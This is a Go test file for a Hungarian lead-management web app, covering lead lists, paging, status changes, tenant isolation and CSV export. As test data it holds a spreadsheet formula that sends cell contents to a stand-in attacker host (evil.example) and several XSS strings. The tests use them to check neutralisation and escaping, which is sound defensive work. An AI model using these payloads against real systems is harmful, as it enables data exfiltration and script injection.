package web_test

import (
	"context"
	"crypto/sha256"
	"encoding/base64"
	"encoding/binary"
	"encoding/csv"
	"fmt"
	"html"
	"math"
	"net/http"
	"net/url"
	"regexp"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/google/uuid"
	xhtml "golang.org/x/net/html"

	"github.com/leadchat/leadchat/internal/company"
	"github.com/leadchat/leadchat/internal/csvexport"
	"github.com/leadchat/leadchat/internal/lead"
)

// formula is a note a visitor could type to make a spreadsheet fetch a URL.
const formula = `=HYPERLINK("https://evil.example/?x="&A1,"kattints")`

// leadsFixture is company A with a chat lead (Kovács Péter, whose note is a formula), filler
// leads enough for two pages of the list, and company B with a lead of its own.
type leadsFixture struct {
	*fixture
	chat, other lead.Lead
	fillers     int
}

func startLeads(t *testing.T) *leadsFixture {
	t.Helper()
	f := &leadsFixture{fixture: start(t), fillers: 60}
	for i := range f.fillers {
		f.addLead(t, f.a, lead.Lead{FirstName: fmt.Sprintf("Teszt%02d", i), LastName: "Elek",
			Email: fmt.Sprintf("teszt%02d@pelda.hu", i), Source: lead.SourceForm})
	}
	f.chat = f.addLead(t, f.a, lead.Lead{FirstName: "Péter", LastName: "Kovács", Email: "kovacs.peter@pelda.hu",
		Phone: "+36 30 123 4567", PhoneE164: "+36301234567", Service: "Napelem", Note: formula,
		Source: lead.SourceChat, ReferralData: map[string]string{"utm_source": "hirlevel", "utm_campaign": "tavasz"}})
	f.chatOf(t, f.a, f.chat.ID)
	f.other = f.addLead(t, f.b, lead.Lead{FirstName: "Béla", LastName: "Nagy", Email: "nagy.bela@pelda.hu", Source: lead.SourceAPI})
	return f
}

func (f *leadsFixture) addLead(t *testing.T, c company.Company, l lead.Lead) lead.Lead {
	t.Helper()
	l.ID = lead.NewID()
	if _, err := f.store.CreateLead(context.Background(), c.ID, l, nil, nil); err != nil {
		t.Fatal(err)
	}
	return l
}

// chatOf gives a lead a chat as the chat stores it: a visitor's message and the reply.
func (f *leadsFixture) chatOf(t *testing.T, c company.Company, leadID uuid.UUID) {
	t.Helper()
	db, session := f.store.DB(), "web-test-session-"+leadID.String()[:8]
	if _, err := db.Exec(`INSERT INTO chat_sessions (company_id, session_id, lead_id) VALUES ($1, $2, $3)`,
		c.ID, session, leadID); err != nil {
		t.Fatal(err)
	}
	if _, err := db.Exec(`INSERT INTO chat_messages (company_id, session_id, visitor, text)
		VALUES ($1, $2, true, 'Mennyibe kerül egy 5 kW-os rendszer?'), ($1, $2, false, 'Kérem, adja meg az e-mail-címét, és kollégánk visszahívja.')`,
		c.ID, session); err != nil {
		t.Fatal(err)
	}
}

var leadRow = regexp.MustCompile(`data-lead="([0-9a-f-]{36})"`)

// rows are the lead ids a list page shows, in order.
func rows(body string) []string {
	var ids []string
	for _, m := range leadRow.FindAllStringSubmatch(body, -1) {
		ids = append(ids, m[1])
	}
	return ids
}

var nextLink = regexp.MustCompile(`<a href="([^"]+)" rel="next">`)

func TestLeadsList(t *testing.T) {
	t.Parallel()
	f := startLeads(t)
	c := f.client(t)
	c.login(f.owner)
	month := time.Now().In(budapestTZ(t)).Format("2006-01")

	for _, tt := range []struct {
		name  string
		query url.Values
		want  int
	}{
		{"first page of everything", nil, 50},
		{"text finds the name", url.Values{"q": {"kovács"}}, 1},
		{"text finds the email", url.Values{"q": {"teszt07@"}}, 1},
		{"source", url.Values{"source": {"chat"}}, 1},
		{"status with no lead", url.Values{"status": {"won"}}, 0},
		{"this month", url.Values{"month": {month}, "q": {"Elek"}}, 50},
		{"another month", url.Values{"month": {"2001-01"}}, 0},
		{"the other company's lead is not found", url.Values{"q": {"Nagy"}}, 0},
	} {
		t.Run(tt.name, func(t *testing.T) {
			r := c.get("/app/leads?" + tt.query.Encode())
			if r.status != http.StatusOK {
				t.Fatalf("GET: %d", r.status)
			}
			if got := rows(r.body); len(got) != tt.want {
				t.Errorf("%d rows, want %d", len(got), tt.want)
			}
		})
	}
	t.Run("the name is in Hungarian order", func(t *testing.T) {
		if r := c.get("/app/leads?q=kovacs.peter"); !strings.Contains(r.body, ">Kovács Péter</a>") {
			t.Errorf("the list does not show Kovács Péter:\n%s", r.body)
		}
	})
	for _, q := range []string{"status=archived", "source=fax", "month=2026-13", "after=nonsense"} {
		t.Run("invalid "+q, func(t *testing.T) {
			if r := c.get("/app/leads?" + q); r.status != http.StatusBadRequest || !strings.Contains(r.body, `role="alert"`) {
				t.Errorf("GET ?%s: %d", q, r.status)
			}
		})
	}

	t.Run("keyset pages cover every lead once, filter kept", func(t *testing.T) {
		seen := map[string]bool{}
		path, pages := "/app/leads?q=Elek", 0
		for path != "" {
			r := c.get(path)
			if r.status != http.StatusOK {
				t.Fatalf("GET %s: %d", path, r.status)
			}
			pages++
			for _, id := range rows(r.body) {
				if seen[id] {
					t.Errorf("lead %s on two pages", id)
				}
				seen[id] = true
			}
			path = ""
			if m := nextLink.FindStringSubmatch(r.body); m != nil {
				path = html.UnescapeString(m[1])
				if !strings.Contains(path, "q=Elek") {
					t.Errorf("the next page %s lost the filter", path)
				}
			}
		}
		if len(seen) != f.fillers || pages != 2 {
			t.Errorf("%d leads on %d pages, want %d on 2", len(seen), pages, f.fillers)
		}
	})

	t.Run("a crafted paging link is a Hungarian 400", func(t *testing.T) {
		m := nextLink.FindStringSubmatch(c.get("/app/leads?q=Elek").body)
		if m == nil {
			t.Fatal("no next page")
		}
		next, err := url.Parse(html.UnescapeString(m[1]))
		if err != nil {
			t.Fatal(err)
		}
		after := next.Query().Get("after")
		for name, q := range map[string]url.Values{
			"int64 minimum":        {"after": {craftedCursor(math.MinInt64)}},
			"int64 maximum":        {"after": {craftedCursor(math.MaxInt64)}},
			"one character longer": {"q": {"Elek"}, "after": {after + "A"}},
			"one character short":  {"q": {"Elek"}, "after": {after[1:]}},
			"not base64url":        {"q": {"Elek"}, "after": {strings.Repeat("*", len(after))}},
			"of another filter":    {"q": {"Kovács"}, "after": {after}},
			"of no filter":         {"after": {after}},
		} {
			r := c.get("/app/leads?" + q.Encode())
			if r.status != http.StatusBadRequest || !strings.Contains(r.body, "Ez a lapozási hivatkozás érvénytelen") {
				t.Errorf("%s: %d", name, r.status)
			}
		}
	})
}

// craftedCursor is a list cursor of the first version (its checksum covers no filter) at
// micros, with a valid checksum, as someone who read the format would make it.
func craftedCursor(micros int64) string {
	b := make([]byte, 25, 29)
	b[0] = 1
	binary.BigEndian.PutUint64(b[1:9], uint64(micros))
	id := uuid.New()
	copy(b[9:], id[:])
	sum := sha256.Sum256(b)
	return base64.RawURLEncoding.EncodeToString(append(b, sum[:4]...))
}

func budapestTZ(t *testing.T) *time.Location {
	l, err := time.LoadLocation("Europe/Budapest")
	if err != nil {
		t.Fatal(err)
	}
	return l
}

// The list's rows, written by the dashboard rather than a template, show any text as it was
// typed and make no markup of it: a lead whose fields are markup, quotes and entities shows
// that text in its cells, and its row holds only the row's own elements.
func TestLeadRowsHoldTheTextAsTyped(t *testing.T) {
	t.Parallel()
	f := startLeads(t)
	hostile := lead.Lead{FirstName: `<script>alert("x")</script>`, LastName: `Ödön & 'Társa' &amp;`,
		Email: `"><img src=x onerror=alert(1)>@pelda.hu`, Phone: `+36 <b>30</b> 111`,
		Service: "Napelem & \"tető\" <5 kW>", Source: lead.SourceForm}
	hostile = f.addLead(t, f.a, hostile)
	bare := f.addLead(t, f.a, lead.Lead{Phone: "+36 1 234 5678", Source: lead.SourceAPI})
	// Two leads that came in past the limit: one moved on since (its status and the "kereten
	// felül" badge), one still over_limit (that status alone).
	movedOn := f.addLead(t, f.a, lead.Lead{FirstName: "Túl", LastName: "Keret", Source: lead.SourceAPI})
	stillOver := f.addLead(t, f.a, lead.Lead{FirstName: "Még", LastName: "Túl", Source: lead.SourceAPI})
	for id, status := range map[uuid.UUID]lead.Status{movedOn.ID: lead.StatusContacted, stillOver.ID: lead.StatusOverLimit} {
		if _, err := f.store.DB().Exec(`UPDATE leads SET over_limit = true, status = $2 WHERE id = $1`, id, status); err != nil {
			t.Fatal(err)
		}
	}
	c := f.client(t)
	c.login(f.owner)
	r := c.get("/app/leads")
	if r.status != http.StatusOK {
		t.Fatalf("GET /app/leads: %d", r.status)
	}
	doc, err := xhtml.Parse(strings.NewReader(r.body))
	if err != nil {
		t.Fatal(err)
	}
	row := func(id uuid.UUID) (cells []string, tags []string) {
		var tr *xhtml.Node
		for n := range doc.Descendants() {
			if n.Type == xhtml.ElementNode && n.Data == "tr" && attr(n, "data-lead") == id.String() {
				tr = n
			}
		}
		if tr == nil {
			t.Fatalf("no row for lead %s", id)
		}
		for n := range tr.Descendants() {
			if n.Type != xhtml.ElementNode {
				continue
			}
			tags = append(tags, n.Data)
			if n.Data == "td" {
				var text strings.Builder
				for m := range n.Descendants() {
					if m.Type == xhtml.TextNode {
						text.WriteString(m.Data)
					} else if m.Type == xhtml.ElementNode && m.Data == "br" {
						text.WriteString("|")
					}
				}
				cells = append(cells, text.String())
			}
			if n.Data == "a" && attr(n, "href") != "/app/leads/"+id.String() {
				t.Errorf("the row's link goes to %q", attr(n, "href"))
			}
		}
		return cells, tags
	}
	cells, tags := row(hostile.ID)
	want := []string{hostile.LastName + " " + hostile.FirstName, hostile.Email + "|" + hostile.Phone,
		"Napelem & \"tető\" <5 kW>", "űrlap", "új", "–"}
	if len(cells) != 7 || !slices.Equal(cells[:6], want) {
		t.Errorf("the row's cells %q, want %q and the date", cells, want)
	}
	if wantTags := []string{"td", "a", "td", "span", "br", "td", "td", "td", "span", "td", "td"}; !slices.Equal(tags, wantTags) {
		t.Errorf("the row's elements %v, want %v", tags, wantTags)
	}
	if cells, _ := row(bare.ID); len(cells) < 2 || cells[0] != "(név nélkül)" || cells[1] != "+36 1 234 5678" {
		t.Errorf("a lead with no name or email: cells %q", cells)
	}
	for _, tc := range []struct {
		id     uuid.UUID
		status string
	}{{movedOn.ID, "megkeresve kereten felül"}, {stillOver.ID, "kereten felül"}} {
		if cells, _ := row(tc.id); len(cells) < 5 || cells[4] != tc.status {
			t.Errorf("a lead that came in past the limit: status cell %q, want %q", cells, tc.status)
		}
	}
}

// attr is an element's attribute value, "" when it has none.
func attr(n *xhtml.Node, name string) string {
	for _, a := range n.Attr {
		if a.Key == name {
			return a.Val
		}
	}
	return ""
}

func TestLeadPageAndStatus(t *testing.T) {
	t.Parallel()
	f := startLeads(t)
	c := f.client(t)
	c.login(f.owner)
	path := "/app/leads/" + f.chat.ID.String()

	r := c.get(path)
	if r.status != http.StatusOK {
		t.Fatalf("GET %s: %d", path, r.status)
	}
	for _, want := range []string{"Kovács Péter", "kovacs.peter@pelda.hu", "+36301234567", "Napelem",
		"hirlevel", "utm_campaign", "nincs rögzítve", "Mennyibe kerül egy 5 kW-os rendszer?",
		"kollégánk visszahívja", "A beérkezése óta nem változott."} {
		if !strings.Contains(html.UnescapeString(r.body), want) {
			t.Errorf("the lead page lacks %q", want)
		}
	}

	t.Run("the owner changes the status, kept in the history", func(t *testing.T) {
		r := c.post(path+"/status", url.Values{"status": {"won"}})
		if r.status != http.StatusSeeOther || r.location != path {
			t.Fatalf("POST status: %d %s", r.status, r.location)
		}
		page := c.get(path).body
		if !strings.Contains(page, "Az állapot mentve: megnyert.") || !strings.Contains(page, "<td>dashboard</td>") {
			t.Errorf("after the change the page shows no flash or no history:\n%s", page)
		}
		if got := rows(c.get("/app/leads?status=won").body); !slices.Equal(got, []string{f.chat.ID.String()}) {
			t.Errorf("won leads = %v", got)
		}
	})
	t.Run("a member changes the status too", func(t *testing.T) {
		m := f.client(t)
		m.login(f.member)
		if r := m.post(path+"/status", url.Values{"status": {"contacted"}}); r.status != http.StatusSeeOther {
			t.Errorf("member POST status: %d", r.status)
		}
	})
	t.Run("a status a company cannot set", func(t *testing.T) {
		if r := c.post(path+"/status", url.Values{"status": {"over_limit"}}); r.status != http.StatusBadRequest {
			t.Errorf("POST over_limit: %d", r.status)
		}
	})
	t.Run("a cross-site form post is refused", func(t *testing.T) {
		if r := c.post(path+"/status", url.Values{"status": {"lost"}}, "Sec-Fetch-Site", "cross-site"); r.status != http.StatusForbidden {
			t.Errorf("cross-site POST status: %d", r.status)
		}
	})
	t.Run("another company's lead is not found", func(t *testing.T) {
		b := f.client(t)
		b.login(f.ownerB)
		if r := b.get(path); r.status != http.StatusNotFound {
			t.Errorf("B GET A's lead: %d", r.status)
		}
		if r := b.post(path+"/status", url.Values{"status": {"lost"}}); r.status != http.StatusNotFound {
			t.Errorf("B POST A's lead status: %d", r.status)
		}
		if r := c.get("/app/leads/" + f.other.ID.String()); r.status != http.StatusNotFound {
			t.Errorf("A GET B's lead: %d", r.status)
		}
		if r := c.get("/app/leads/not-an-id"); r.status != http.StatusNotFound {
			t.Errorf("GET a malformed id: %d", r.status)
		}
	})
}

func TestLeadsCSV(t *testing.T) {
	t.Parallel()
	f := startLeads(t)
	c := f.client(t)
	c.login(f.member)

	t.Run("the filter's leads, formula neutralised", func(t *testing.T) {
		r := c.get("/app/leads.csv?source=chat")
		if r.status != http.StatusOK || !strings.HasPrefix(r.header.Get("Content-Type"), "text/csv") {
			t.Fatalf("GET: %d %s", r.status, r.header.Get("Content-Type"))
		}
		body, bom := strings.CutPrefix(r.body, csvexport.BOM)
		records, err := csv.NewReader(strings.NewReader(body)).ReadAll()
		if err != nil || !bom {
			t.Fatalf("%v; BOM %t", err, bom)
		}
		if len(records) != 2 || records[0][0] != "id" || records[0][7] != "details" {
			t.Fatalf("records = %q", records)
		}
		if got := records[1][7]; got != "'"+formula {
			t.Errorf("details cell = %q, want the formula behind an apostrophe", got)
		}
		if records[1][0] != f.chat.ID.String() {
			t.Errorf("id cell = %q", records[1][0])
		}
	})
	t.Run("every lead of the company, none of another", func(t *testing.T) {
		records, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(c.get("/app/leads.csv").body, csvexport.BOM))).ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		if len(records) != 1+f.fillers+1 {
			t.Errorf("%d records, want a header and %d leads", len(records), f.fillers+1)
		}
		for _, rec := range records {
			if rec[0] == f.other.ID.String() {
				t.Error("the export holds company B's lead")
			}
		}
	})
	t.Run("an invalid filter", func(t *testing.T) {
		if r := c.get("/app/leads.csv?month=tegnap"); r.status != http.StatusBadRequest {
			t.Errorf("GET: %d", r.status)
		}
	})
	t.Run("anonymous", func(t *testing.T) {
		if r := f.client(t).get("/app/leads.csv"); r.status != http.StatusSeeOther {
			t.Errorf("GET: %d", r.status)
		}
	})
}

// TestLeadsCSVLarge exports more leads than one store page and one write-deadline step.
func TestLeadsCSVLarge(t *testing.T) {
	t.Parallel()
	f := start(t)
	const n = 2500
	if _, err := f.store.DB().Exec(`
		INSERT INTO leads (id, company_id, first_name, last_name, email, source, status, created_at, updated_at)
		SELECT gen_random_uuid(), $1, 'Anna', 'Kiss', 'lead' || i || '@pelda.hu', 'form', 'new',
		       now() - i * interval '1 minute', now() - i * interval '1 minute'
		FROM generate_series(1, $2::int) AS i`, f.a.ID, n); err != nil {
		t.Fatal(err)
	}
	c := f.client(t)
	c.login(f.owner)
	r := c.get("/app/leads.csv?q=Kiss")
	records, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(r.body, csvexport.BOM))).ReadAll()
	if err != nil || r.status != http.StatusOK {
		t.Fatalf("GET: %d, %v", r.status, err)
	}
	if len(records) != 1+n {
		t.Errorf("%d records, want a header and %d leads", len(records), n)
	}
	seen := map[string]bool{}
	for _, rec := range records[1:] {
		seen[rec[0]] = true
	}
	if len(seen) != n {
		t.Errorf("%d distinct leads, want %d", len(seen), n)
	}
}

// The lead page links the e-mail address (mailto:) and a phone number that parsed to E.164
// (tel:, with that form), and shows a phone that did not parse as text only.
func TestLeadPageLinksEmailAndPhone(t *testing.T) {
	t.Parallel()
	f := startLeads(t)
	parsed := f.addLead(t, f.a, lead.Lead{FirstName: "Kovács Anna", Email: "anna@pelda.hu", Phone: "+36 30 123 4567",
		PhoneE164: "+36301234567", Source: lead.SourceForm})
	unparsed := f.addLead(t, f.a, lead.Lead{FirstName: "Nagy Béla", Phone: "hívjon este 6-tól: 0630", Source: lead.SourceForm})
	c := f.client(t)
	c.login(f.owner)
	page := c.get("/app/leads/" + parsed.ID.String())
	for _, want := range []string{`href="tel:+36301234567"`, `href="mailto:anna@pelda.hu"`} {
		if !strings.Contains(html.UnescapeString(page.body), want) {
			t.Errorf("the lead page lacks %s", want)
		}
	}
	if page := c.get("/app/leads/" + unparsed.ID.String()); strings.Contains(page.body, `href="tel:`) || strings.Contains(page.body, "ZgotmplZ") {
		t.Error("a phone that did not parse is a link")
	}
}
